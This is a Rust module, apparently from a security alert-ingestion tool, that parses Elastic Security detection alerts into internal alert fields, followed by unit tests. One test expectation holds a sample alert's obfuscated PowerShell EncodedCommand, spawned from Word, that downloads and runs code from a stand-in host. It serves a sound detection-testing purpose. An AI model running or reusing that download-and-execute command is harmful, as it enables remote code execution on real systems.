//! Elastic Security detection alert document (ECS + `kibana.alert.*`).
//!
//! Owns: the mapping from one alert document (nested or with flat dotted keys, as in a Kibana
//! `_source`), optionally wrapped as `{"alerts": [doc]}`, to [`AlertFields`]. Junk entity
//! values are skipped.

use std::collections::BTreeMap;

use chrono::{DateTime, Utc};
use serde_json::Value;

use super::IngestError;
use super::value::{
    Epoch, Required, add_entities, first_text, get, get_text, get_texts, invalid, list,
    one_spelling, percent, tactic_name, techniques, time_at,
};
use crate::alert::{AlertFields, EntityKind, Rule, Severity};

const ENTITY_FIELDS: [(EntityKind, &[&str]); 7] = [
    (EntityKind::Host, &["host.name", "host.hostname"]),
    (EntityKind::User, &["user.name"]),
    (EntityKind::Ip, &["source.ip", "destination.ip", "host.ip"]),
    (EntityKind::Url, &["url.full", "url.original"]),
    (
        EntityKind::Domain,
        &["dns.question.name", "destination.domain"],
    ),
    (
        EntityKind::FileHash,
        &[
            "file.hash.sha256",
            "file.hash.md5",
            "file.hash.sha1",
            "process.hash.sha256",
        ],
    ),
    (EntityKind::CloudResource, &["cloud.instance.id"]),
];
const ATTRIBUTES: [&str; 3] = [
    "process.command_line",
    "process.name",
    "process.parent.name",
];

pub(super) fn parse(body: &Value, received_at: DateTime<Utc>) -> Result<AlertFields, IngestError> {
    let (doc, prefix) = match body.get("alerts") {
        None | Some(Value::Null) => (body, ""),
        Some(Value::Array(docs)) => match docs.as_slice() {
            [doc] if doc.is_object() => (doc, "alerts[0]."),
            [_] => return Err(invalid("alerts[0]", "expected an alert document object")),
            [] => return Err(invalid("alerts", "expected exactly one alert")),
            _ => return Err(invalid("alerts", "send one alert per request")),
        },
        Some(_) => return Err(invalid("alerts", "expected an array of alert documents")),
    };
    one_spelling(doc, prefix)?;
    let mut req = Required::new(doc, prefix);
    let uuid = req.text("kibana.alert.uuid");
    let rule_name = req.text("kibana.alert.rule.name");
    req.finish()?;

    let risk_score = ["kibana.alert.risk_score", "kibana.alert.rule.risk_score"]
        .iter()
        .find_map(|p| get(doc, p).and_then(percent));
    let severity = ["kibana.alert.severity", "kibana.alert.rule.severity"]
        .iter()
        .filter_map(|p| get_text(doc, p))
        .find_map(|s| Severity::parse(&s))
        .or(risk_score.map(|r| Severity::from_risk_score(f64::from(r))))
        .unwrap_or(Severity::Medium);

    let (techniques, tactics) = attack(doc);
    let mut entities = Vec::new();
    for (kind, paths) in ENTITY_FIELDS {
        add_entities(&mut entities, kind, get_texts(doc, paths));
    }
    let attributes: BTreeMap<String, String> = ATTRIBUTES
        .iter()
        .filter_map(|k| get_text(doc, k).map(|v| (k.to_string(), v)))
        .collect();
    let enrichment = list(doc, "threat.enrichments").first();
    let intel_source = first_text(doc, &["threat.indicator.provider", "threat.feed.name"])
        .or_else(|| enrichment.and_then(|e| first_text(e, &["indicator.provider", "feed.name"])));

    Ok(AlertFields {
        source_alert_id: uuid,
        time: time_at(
            doc,
            prefix,
            &["kibana.alert.original_time", "@timestamp"],
            Epoch::Millis,
            received_at,
        )?,
        title: rule_name.clone(),
        description: get_text(doc, "kibana.alert.reason"),
        rule: Rule {
            id: first_text(
                doc,
                &["kibana.alert.rule.rule_id", "kibana.alert.rule.uuid"],
            )
            .unwrap_or_else(|| rule_name.clone()),
            name: rule_name,
            version: get_text(doc, "kibana.alert.rule.version"),
        },
        severity,
        confidence: risk_score.unwrap_or(50),
        techniques,
        tactics,
        intel_source,
        tags: get_texts(doc, &["kibana.alert.rule.tags"]),
        entities,
        attributes,
        source_url: get_text(doc, "kibana.alert.url"),
    })
}

/// Technique ids and tactic names from `kibana.alert.rule.threat[]` (or its flattened form).
fn attack(doc: &Value) -> (Vec<String>, Vec<String>) {
    let mut ids = get_texts(
        doc,
        &[
            "kibana.alert.rule.threat.technique.id",
            "kibana.alert.rule.threat.technique.subtechnique.id",
        ],
    );
    let mut tactics = get_texts(doc, &["kibana.alert.rule.threat.tactic.name"]);
    for threat in list(doc, "kibana.alert.rule.threat") {
        tactics.extend(get_texts(threat, &["tactic.name"]));
        for technique in list(threat, "technique") {
            ids.extend(get_texts(technique, &["id"]));
            for sub in list(technique, "subtechnique") {
                ids.extend(get_texts(sub, &["id"]));
            }
        }
    }
    let tactics = tactics.iter().map(|t| tactic_name(t)).collect();
    (techniques(ids), tactics)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::super::value::testing::{Want, check, missing, now, parse, survives};
    use crate::alert::Severity;
    use crate::ingest::{IngestError, IngestFormat};

    const FIXTURE: &str = include_str!("../../tests/fixtures/elastic.json");

    const WANT: Want<'static> = Want {
        source_alert_id: "6f3e2b1c9d8a7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f",
        time: "2024-06-11T09:14:21+00:00",
        title: "Suspicious PowerShell EncodedCommand from Office",
        rule: (
            "b7f1c2d3-4e5a-46b7-8c9d-0e1f2a3b4c5d",
            "Suspicious PowerShell EncodedCommand from Office",
            Some("3"),
        ),
        severity: Severity::High,
        confidence: 73,
        techniques: &["T1059", "T1059.001", "T1566", "T1566.001"],
        tactics: &["execution", "initial-access"],
        tags: &[
            "Data Source: Elastic Defend",
            "Domain: Endpoint",
            "OS: Windows",
            "Tactic: Execution",
        ],
        intel_source: None,
        entities: &[
            "host:ws-042",
            "user:alice",
            "ip:10.20.30.42",
            "ip:203.0.113.77",
            "file_hash:0c7202275ade61aaec5b13be2ce37e640352ad0346e34322d1086980fa6c975c",
            "file_hash:86f51b17077aee2d7885528286a00aa632489cfee188cc99fbec881feb06dca7",
        ],
        attributes: &[
            (
                "process.command_line",
                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcANwAvAGEAJwApAA=="#,
            ),
            ("process.name", "powershell.exe"),
            ("process.parent.name", "WINWORD.EXE"),
        ],
        source_url: Some(
            "https://kibana.corp.example:5601/app/security/alerts/redirect/6f3e2b1c9d8a7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f?index=.alerts-security.alerts-default&timestamp=2024-06-11T09:14:27.512Z",
        ),
    };

    #[test]
    fn parses_the_flat_fixture() {
        let got = parse(IngestFormat::Elastic, FIXTURE).unwrap();
        check(&got, &WANT);
        assert!(got.description.as_deref().unwrap().contains("WINWORD.EXE"));
    }

    #[test]
    fn accepts_the_alerts_wrapper_and_nested_documents() {
        let doc: serde_json::Value = serde_json::from_str(FIXTURE).unwrap();
        let wrapped = json!({"alerts": [doc]}).to_string();
        check(&parse(IngestFormat::Elastic, &wrapped).unwrap(), &WANT);

        let nested = json!({
            "@timestamp": "2024-06-11T09:14:27.512Z",
            "kibana": {"alert": {
                "uuid": "u-1",
                "risk_score": 91.6,
                "rule": {"uuid": "rule-uuid", "name": "Threat Intel IP Match", "threat": {
                    "tactic": {"name": "Command and Control"},
                    "technique": [{"id": "T1071"}]
                }}
            }},
            "host": {"hostname": "srv-9", "ip": ["10.0.0.9", "fe80::1"]},
            "threat": {"enrichments": [{"indicator": {"provider": "abuse.ch"}, "feed": {"name": "URLhaus"}}]},
            "cloud": {"instance": {"id": "i-0abc123def4567890"}},
            "dns": {"question": {"name": "C2.Evil.Example"}}
        });
        let got = parse(IngestFormat::Elastic, &nested.to_string()).unwrap();
        assert_eq!(got.rule.id, "rule-uuid");
        assert_eq!(got.severity, Severity::Critical);
        assert_eq!(got.confidence, 92);
        assert_eq!(got.time.to_rfc3339(), "2024-06-11T09:14:27.512+00:00");
        assert_eq!(got.techniques, ["T1071"]);
        assert_eq!(got.tactics, ["command-and-control"]);
        assert_eq!(got.intel_source.as_deref(), Some("abuse.ch"));
        let keys: Vec<String> = got.entities.iter().map(|e| e.key()).collect();
        assert_eq!(
            keys,
            [
                "host:srv-9",
                "ip:10.0.0.9",
                "ip:fe80::1",
                "domain:c2.evil.example",
                "cloud_resource:i-0abc123def4567890"
            ]
        );
    }

    #[test]
    fn defaults_without_scores_or_times() {
        let body = json!({"kibana.alert.uuid": "u", "kibana.alert.rule.name": "R"}).to_string();
        let got = parse(IngestFormat::Elastic, &body).unwrap();
        assert_eq!(
            (got.severity, got.confidence, got.time),
            (Severity::Medium, 50, now())
        );
        assert_eq!(got.rule.id, "R");
    }

    #[test]
    fn missing_and_invalid_fields() {
        let check = |body: serde_json::Value, want: &[&str]| {
            assert_eq!(
                missing(parse(IngestFormat::Elastic, &body.to_string())),
                want
            );
        };
        check(
            json!({"host.name": "x"}),
            &["kibana.alert.uuid", "kibana.alert.rule.name"],
        );
        check(
            json!({"alerts": [{"kibana": {"alert": {"uuid": "u"}}}]}),
            &["alerts[0].kibana.alert.rule.name"],
        );
        let invalid =
            |body: serde_json::Value| match parse(IngestFormat::Elastic, &body.to_string()) {
                Err(IngestError::InvalidField { field, reason }) => (field, reason),
                other => panic!("expected InvalidField, got {other:?}"),
            };
        let doc = json!({"kibana.alert.uuid": "u", "kibana.alert.rule.name": "R"});
        assert_eq!(
            invalid(json!({"alerts": [doc, doc]})),
            ("alerts".into(), "send one alert per request".into())
        );
        assert_eq!(invalid(json!({"alerts": []})).0, "alerts");
        assert_eq!(invalid(json!({"alerts": {"a": 1}})).0, "alerts");
        assert_eq!(invalid(json!({"alerts": ["x"]})).0, "alerts[0]");
        let mut bad_time = doc.clone();
        bad_time["@timestamp"] = json!("soon");
        assert_eq!(invalid(bad_time).0, "@timestamp");
        // One field under two spellings with two values: which one the SIEM meant is a guess.
        let mut two = doc.clone();
        two["kibana.alert.severity"] = json!("low");
        two["kibana"] = json!({"alert": {"severity": "critical"}});
        assert_eq!(
            invalid(two.clone()),
            (
                "kibana.alert.severity".into(),
                "given twice with different values: as a dotted key and nested".into()
            )
        );
        assert_eq!(
            invalid(
                json!({"alerts": [{"kibana.alert.uuid": "u", "kibana.alert.rule.name": "R",
                "kibana": {"alert": {"rule": {"name": "S"}}}}]})
            )
            .0,
            "alerts[0].kibana.alert.rule.name"
        );
        // The same value under both spellings is one field, and is accepted.
        let mut same = doc.clone();
        same["kibana.alert.severity"] = json!("high");
        same["kibana"] = json!({"alert": {"severity": "high"}});
        let got = parse(IngestFormat::Elastic, &same.to_string()).unwrap();
        assert_eq!(got.severity, Severity::High);
    }

    #[test]
    fn odd_shapes_do_not_panic() {
        survives(
            IngestFormat::Elastic,
            FIXTURE,
            &[
                r#"{"alerts": null}"#,
                r#"{"alerts": [[]]}"#,
                r#"{"kibana": [], "kibana.alert": 5, "kibana.alert.uuid": {}}"#,
                r#"{"kibana.alert.uuid": "u", "kibana.alert.rule.name": "r", "kibana.alert.rule.threat": [1, [], {"technique": "T1059"}]}"#,
                r#"{"kibana.alert.uuid": "u", "kibana.alert.rule.name": "r", "kibana.alert.risk_score": -1e308, "@timestamp": 1e308}"#,
            ],
        );
    }
}
